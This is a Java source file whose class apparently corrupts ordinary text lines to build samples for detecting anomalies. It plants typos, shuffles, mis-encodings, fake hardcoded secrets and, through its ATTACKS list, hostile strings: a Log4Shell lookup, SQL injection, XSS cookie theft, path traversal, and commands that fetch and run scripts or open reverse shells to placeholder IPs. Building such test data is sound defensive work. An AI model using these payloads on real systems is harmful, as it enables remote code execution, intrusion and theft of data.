package anabranch.samples.kinds;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;

/**
 * Makes odd lines out of ordinary ones; equal seeds make equal lines. Confined to one thread.
 *
 * <p>Deliberately small: it imitates slips, leaks and attacks one line at a time, and nobody who
 * wants to stay unseen.
 */
final class Planter {
  /** The fewest bytes, without white space around, of a line that is made odd. */
  static final int SHORTEST = 20;

  private static final String LETTERS = "abcdefghijklmnopqrstuvwxyz";
  private static final String KEY = LETTERS + "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
  private static final List<String> NAMES =
      List.of("API_KEY", "TOKEN", "password", "SIGNING_SECRET", "dbPassword", "auth");
  private static final List<String> TWICE_ENCODED =
      List.of("\u00c3\u00a4", "\u00e2\u20ac\u2122", "\u00c3\u00a9", "\u00ef\u00bb\u00bf");
  private static final List<String> ATTACKS =
      List.of(
          "${jndi:ldap://203.0.113.7:1389/Basic/Command/a}",
          "' OR '1'='1' UNION SELECT login, pwhash FROM users--",
          "; curl -s http://203.0.113.7/x.sh | sh -i >& /dev/tcp/203.0.113.7/4444",
          "$(wget -qO- http://203.0.113.9/k|bash)",
          "<script>new Image().src='//203.0.113.9/?'+document.cookie</script>",
          "..%2f..%2f..%2f..%2fetc%2fpasswd%00",
          "%u9090%u6858%ucbd3%u7801%u9090",
          "`nc -e /bin/sh 203.0.113.7 4444`");

  private final Random random;

  Planter(long seed) {
    random = new Random(seed);
  }

  /** Returns whether a line is long enough to be made odd, and has a letter to change. */
  static boolean fits(byte[] line) {
    String text = new String(line, StandardCharsets.ISO_8859_1).strip();
    return text.length() >= SHORTEST && text.chars().anyMatch(c -> isLetter((char) c));
  }

  /**
   * Returns an odd line in the place of an ordinary one.
   *
   * @param line one that {@link #fits}; stays as it is
   */
  byte[] plant(Oddity oddity, String kind, byte[] line) {
    int end = line.length;
    while (end > 0 && (line[end - 1] == '\n' || line[end - 1] == '\r')) {
      end--;
    }
    int start = 0;
    while (start < end && (line[start] == ' ' || line[start] == '\t')) {
      start++;
    }
    byte[] indent = Arrays.copyOf(line, start);
    byte[] text = Arrays.copyOfRange(line, start, end);
    byte[] odd =
        switch (oddity) {
          case LETTER -> letter(text);
          case SHUFFLED -> shuffled(text);
          case FOREIGN -> utf8(Foreign.LINES.get(random.nextInt(Foreign.LINES.size())));
          case SECRET -> utf8(secret(kind));
          case CORRUPT -> corrupt(text);
        };
    return join(indent, odd, Arrays.copyOfRange(line, end, line.length));
  }

  private byte[] letter(byte[] text) {
    int at;
    do {
      at = random.nextInt(text.length);
    } while (!isLetter((char) (text[at] & 0xff)));
    char was = (char) text[at];
    char other;
    do {
      other = LETTERS.charAt(random.nextInt(LETTERS.length()));
      other = Character.isUpperCase(was) ? Character.toUpperCase(other) : other;
    } while (other == was);
    byte[] odd = text.clone();
    odd[at] = (byte) other;
    return odd;
  }

  private byte[] shuffled(byte[] text) {
    byte[] odd = text.clone();
    for (int i = odd.length - 1; i > 0; i--) {
      int j = random.nextInt(i + 1);
      byte moved = odd[i];
      odd[i] = odd[j];
      odd[j] = moved;
    }
    return odd;
  }

  private String secret(String kind) {
    String name = NAMES.get(random.nextInt(NAMES.size()));
    String key = key();
    return switch (kind) {
      case "java" -> "private static final String " + name + " = \"" + key + "\";";
      case "kt" -> "private const val " + name + " = \"" + key + "\"";
      case "xml" -> "<property name=\"" + name + "\" value=\"" + key + "\"/>";
      case "md" -> "Set `" + name + "=" + key + "` before the first call.";
      case "log" -> "2026-02-11T08:15:42.118Z DEBUG [http-3] Client - " + name + "=" + key;
      default -> "The value of " + name + " is " + key + " until further notice.";
    };
  }

  private String key() {
    byte[] bytes = new byte[24];
    random.nextBytes(bytes);
    switch (random.nextInt(3)) {
      case 0:
        return Base64.getEncoder().encodeToString(bytes);
      case 1:
        return HexFormat.of().formatHex(bytes);
      default:
        StringBuilder key = new StringBuilder();
        for (int i = 0; i < 32; i++) {
          key.append(KEY.charAt(random.nextInt(KEY.length())));
        }
        return key.toString();
    }
  }

  private byte[] corrupt(byte[] text) {
    int at = random.nextInt(text.length - SHORTEST / 2 + 1);
    byte[] before = Arrays.copyOf(text, at);
    switch (random.nextInt(3)) {
      case 0:
        byte[] attack = utf8(ATTACKS.get(random.nextInt(ATTACKS.size())));
        return join(before, attack, Arrays.copyOfRange(text, at, text.length));
      case 1:
        return twiceEncoded(text);
      default:
        byte[] junk = new byte[10 + random.nextInt(7)];
        for (int i = 0; i < junk.length; i++) {
          junk[i] =
              (byte) (random.nextBoolean() ? 33 + random.nextInt(94) : 128 + random.nextInt(128));
        }
        int behind = Math.min(text.length, at + junk.length);
        return join(before, junk, Arrays.copyOfRange(text, behind, text.length));
    }
  }

  /** Returns a text of whose letters every fifth or so was encoded twice. */
  private byte[] twiceEncoded(byte[] text) {
    ByteArrayOutputStream odd = new ByteArrayOutputStream();
    int next = random.nextInt(5);
    for (byte b : text) {
      if (isLetter((char) (b & 0xff)) && next-- <= 0) {
        odd.writeBytes(utf8(TWICE_ENCODED.get(random.nextInt(TWICE_ENCODED.size()))));
        next = 2 + random.nextInt(5);
      } else {
        odd.write(b);
      }
    }
    return odd.toByteArray();
  }

  private static boolean isLetter(char c) {
    return c < 128 && Character.isLetter(c);
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] join(byte[]... parts) {
    ByteArrayOutputStream joined = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      joined.writeBytes(part);
    }
    return joined.toByteArray();
  }
}
